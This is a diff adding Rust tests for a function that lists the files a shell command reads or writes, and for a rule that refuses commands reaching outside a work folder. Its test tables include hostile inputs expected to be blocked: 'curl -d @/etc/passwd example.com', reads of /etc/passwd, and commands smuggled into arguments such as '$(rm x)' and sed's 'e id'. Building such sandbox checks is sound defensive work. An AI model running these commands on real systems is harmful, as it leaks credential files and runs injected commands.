@@ -144,6 +144,218 @@ fn the_rules_of_the_guide_decide_as_it_says() {
     assert_eq!((rules, lines), (2, 31));
 }
 
+/// A file of `shell.paths`: its path, if it is known, and whether it is read and written.
+type Touched = (Option<String>, bool, bool);
+
+fn touched(line: &str, folder: &str) -> Option<Vec<Touched>> {
+    let line = Value::owned_text(line);
+    let found =
+        code("shell.paths")(&mut Meter::new(&EvalLimits::default()), &[&line, &Value::text(folder)]).ok()?;
+    let Value::List(found) = found else { panic!("it is a list") };
+    let entry = |entry| {
+        let Value::Map(map) = entry else { panic!("an entry is a map") };
+        let flag = |name| map.get_str(name).is_some_and(|value| value.is_truthy());
+        let path = map.get_str("path").map(|path| path.as_str().unwrap().to_owned());
+        assert_eq!(path.is_none(), map.get_str("unknown").is_some());
+        (path, flag("reads"), flag("writes"))
+    };
+    Some(found.iter().map(entry).collect())
+}
+
+/// What strace has seen on Linux is what the function gives, or less; `tests/data/shell/make_files.py` writes the table.
+#[test]
+fn programs_touch_no_other_files_than_those_that_are_given() {
+    let table = include_str!("../data/shell/files.tsv");
+    let (mut lines, mut known, mut files) = (0, 0, 0);
+    for row in table.lines() {
+        let [line, read, seen, written] = row.split('\t').collect::<Vec<_>>()[..] else { panic!("{row}") };
+        let Some(given) = touched(line, "/w") else { panic!("{line} cannot be read") };
+        lines += 1;
+        if given.iter().any(|(path, ..)| path.is_none()) {
+            continue;
+        }
+        known += 1;
+        for (seen, is_write) in [(read, false), (seen, false), (written, true)] {
+            for file in seen.split(' ').filter(|file| !file.is_empty()) {
+                let file = if file == "." { "/w".to_owned() } else { format!("/w/{file}") };
+                // a folder is read and written with what is in it, and those around a file are looked at, or made by `mkdir -p`
+                let covers = |path: &str| {
+                    let path = path.replace("/./", "/");
+                    let path = path.trim_end_matches("/.");
+                    let is_around =
+                        (!is_write || line.contains("mkdir")) && path.starts_with(&format!("{file}/"));
+                    file == path || file.starts_with(&format!("{path}/")) || is_around
+                };
+                let is_given = given
+                    .iter()
+                    .any(|(path, _, writes)| path.as_deref().is_some_and(covers) && (*writes || !is_write));
+                assert!(is_given, "{line}: {file} (written: {is_write}) is not in {given:?}");
+                files += 1;
+            }
+        }
+    }
+    assert!(lines > 1_000 && known * 2 > lines && files > 1_000, "{lines} {known} {files}");
+}
+
+/// What a rule of a guide asks: whether all files are in the folder, where an error is a no.
+#[test]
+fn files_outside_of_the_folder_are_refused() {
+    for (line, expected) in [
+        ("cat src/main.rs", true),
+        ("cat -n /work/src/main.rs", true),
+        ("grep -rn 'a/b' src", true),
+        ("grep /etc/passwd notes", true),
+        ("echo /etc/passwd", true),
+        ("sed -n '1,5p' src/main.rs", true),
+        ("sed -i 's/a/b/g' src/main.rs", true),
+        ("find . -name '*.rs' -newer notes", true),
+        ("cd src && cat main.rs", true),
+        ("ls 2>/dev/null", true),
+        ("head -n 5 notes | sort -u | uniq -c > counts", true),
+        ("cat /etc/passwd", false),
+        ("cat ../x", false),
+        ("cat src/../../x", false),
+        ("cat -- -n /etc/passwd", false),
+        ("head -n /etc/passwd", true),
+        ("head a -n /etc/passwd", false),
+        ("grep -f /etc/passwd x", false),
+        ("grep -rf/etc/passwd x", false),
+        ("grep --file=/etc/passwd x", false),
+        ("grep --fil=/etc/passwd x", false),
+        ("grep -e a /etc/passwd", false),
+        ("grep a -e b", true),
+        ("grep - /etc/passwd", false),
+        ("grep a -e /etc/passwd", false),
+        ("grep -5 a notes", true),
+        ("head -5 notes", true),
+        ("head -5c /etc/passwd", false),
+        ("tail -5f /etc/passwd", false),
+        ("tail -fn5 notes", true),
+        ("xxd -ps /etc/passwd", false),
+        ("xxd -ac /etc/passwd", false),
+        ("ln a", true),
+        ("ln ../x", false),
+        ("sort -o/etc/x notes", false),
+        ("sort -uo /etc/x notes", false),
+        ("sort --output=/etc/x notes", false),
+        ("sort --compress-program=x notes", false),
+        ("sort --files0-from=x", false),
+        ("wc --files0-from x", false),
+        ("md5sum -c sums", false),
+        ("uniq notes /etc/x", false),
+        ("xxd -r notes /etc/x", false),
+        ("cp notes /etc/x", false),
+        ("cp -t /etc notes", false),
+        ("cp --target-directory=/etc notes", false),
+        ("mv -t/etc notes", false),
+        ("ln -s ../../etc x", false),
+        ("tee /etc/x < notes", false),
+        ("touch -r /etc/x notes", false),
+        ("cat notes > /etc/x", false),
+        ("> /etc/x", false),
+        ("cat < /etc/x", false),
+        ("cd / && cat etc/passwd", false),
+        ("cd /; (cd ..; ls)", false),
+        ("cd && ls", false),
+        ("cd - && ls", false),
+        ("pushd / && ls", false),
+        ("sed -n 'w /etc/x' notes", false),
+        ("sed 's/a/b/w /etc/x' notes", false),
+        ("sed 's/[/]w /x' notes", false),
+        ("sed -e 'r /etc/passwd' notes", false),
+        ("sed -i.bak p notes", false),
+        ("sed -f x notes", false),
+        ("sed '1e id' notes", false),
+        ("find /etc", false),
+        ("find . -delete", true),
+        ("find . -fprint /etc/x", false),
+        ("find . -exec rm {} +", false),
+        ("find . -execdir x {} +", false),
+        ("find . -files0-from x", false),
+        ("find -L . -newer /etc/x", false),
+        ("ls | xargs cat", false),
+        ("python3 -c 'open(1)'", false),
+        ("sh -c 'cat x'", false),
+        ("awk '{ print > \"/etc/x\" }' notes", false),
+        ("env cat x", false),
+        ("PATH=. ls", false),
+        ("/bin/cat notes", false),
+        ("./run", false),
+        ("make", false),
+        ("dd if=/etc/passwd of=x", false),
+        ("curl -d @/etc/passwd example.com", false),
+        ("tar xf a.tar", false),
+        ("[ -v 'a[$(rm x)]' ]", false),
+        ("[ -f notes ]", true),
+        ("cat $HOME/x", false),
+        ("cat ~/x", false),
+        ("cat src/*", false),
+        ("cat $(echo x)", false),
+        ("cat 'unclosed", false),
+    ] {
+        let scope = Env::builder().variable("line", Type::String);
+        let env = STANDARD.iter().chain(EXTENSIONS).copied().fold(scope, EnvBuilder::library).build();
+        let rule = "shell.paths(line, '/work').all(p, path.within(p.path, '/work'))";
+        let program = Program::compile(&env, rule).unwrap();
+        let activation = Activation::new(&env).with(&env, "line", Value::text(line));
+        assert_eq!(
+            program.holds(&activation, None).unwrap_or(false),
+            expected,
+            "{line}: {:?}",
+            touched(line, "/work")
+        );
+    }
+}
+
+/// `-` is an operand, and `ln` with one of them makes a file in the folder.
+#[test]
+fn what_is_written_is_told_from_what_is_read() {
+    for (line, written) in [
+        ("uniq - out", &["/w/out"][..]),
+        ("xxd notes out", &["/w/out"]),
+        ("cp a b out", &["/w/out"]),
+        ("cp -t out a b", &["/w/out"]),
+        ("ln lib/a", &["/w/.", "/w/lib/a"]),
+        ("ln a b", &["/w/a", "/w/b"]),
+        ("mv a b", &["/w/a", "/w/b"]),
+        ("sort -o out in", &["/w/out"]),
+        ("sed -n p in", &[]),
+        ("sed -i p in", &["/w/in"]),
+        ("touch -r in out", &["/w/out"]),
+        ("chmod 700 out", &["/w/out"]),
+        ("grep -f in in", &[]),
+        ("find lib -name x -delete", &["/w/lib"]),
+        ("find lib -fprintf out x", &["/w/out"]),
+        ("(cd lib; cat in) > out", &["/w/out", "/w/out", "/w/lib/out"]),
+    ] {
+        let touched = touched(line, "/w").unwrap();
+        let found: Vec<String> =
+            touched.into_iter().filter(|(_, _, writes)| *writes).map(|(path, ..)| path.unwrap()).collect();
+        assert_eq!(found, written, "{line}");
+    }
+}
+
+/// A rule that keeps the program list apart sees which words of an unknown program may be files.
+#[test]
+fn words_of_unknown_programs_may_be_files() {
+    let paths = |line: &str| {
+        let touched = touched(line, "/w").unwrap();
+        touched
+            .into_iter()
+            .map(|(path, reads, writes)| {
+                assert!(reads && writes);
+                path.unwrap_or_default()
+            })
+            .collect::<Vec<_>>()
+    };
+    assert_eq!(paths("make -C lib all"), ["", "/w/lib", "/w/all"]);
+    assert_eq!(
+        paths("run if=/etc/x @y --out=z/a -I/usr -I.. --quiet host:/b"),
+        ["", "/w/if", "/etc/x", "/w/y", "/w/z/a", "", "", "/w/host", "/b"]
+    );
+    assert_eq!(paths("bin/run a"), ["", "/w/bin/run", "/w/a"]);
+}
+
 /// Pieces of lines, put together without blanks in between.
 const PIECES: [&str; 84] = [
     "a",
